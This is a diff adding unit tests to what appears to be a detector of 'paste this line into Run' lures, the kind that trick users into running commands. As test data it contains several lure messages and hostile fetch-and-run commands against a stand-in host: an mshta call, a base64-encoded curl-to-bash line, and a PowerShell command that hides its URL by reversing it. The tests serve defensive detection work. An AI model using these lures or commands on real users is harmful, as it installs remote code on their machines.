@@ -37,3 +37,23 @@ test('after a check that the reader is human, any command of Windows is one', ()
   const manual = 'Cloudflare WARP does not connect? Press Windows + R, paste this line and press Enter:'
   assert.equal(pastedCommand(`${manual}\ncmd /c ipconfig /flushdns`), null)
 })
+
+test('other words and keys for the same', () => {
+  const command = 'mshta http://files.example/a'
+  for (const lure of [
+    'The viewer that opens it is not registered. Hold Windows and press R, paste the line and press Enter.',
+    'Your reader is missing the font package. Press the Windows key and X, choose Terminal, and paste the repair line.',
+    'Your session could not be verified. Press Win and R together, paste the string and press OK.',
+  ])
+    assert.equal(pastedCommand(`${lure}\n${command}`), command, lure)
+})
+
+test('a command that is coded, or fetches code out of sight, needs no pretext', () => {
+  const steps = 'Press Command + Space, type  Terminal  and press Return. Paste the line below.'
+  const coded = `echo '${btoa('curl -fsSL https://files.example/u.sh | bash')}' | base64 -D | zsh`
+  assert.equal(pastedCommand(`${steps}\n${coded}`), coded)
+  const reversed = `powershell -NoP -W 1 -c "$c='elpmaxe.selif//:sptth'.ToCharArray();[array]::Reverse($c);irm (-join $c)|iex"`
+  assert.equal(pastedCommand(`Press Windows + R, paste the line and press Enter.\n${reversed}`), reversed)
+  const shown = 'powershell -c "Get-Process"'
+  assert.equal(pastedCommand(`Press Windows + R, paste the line and press Enter.\n${shown}`), null)
+})
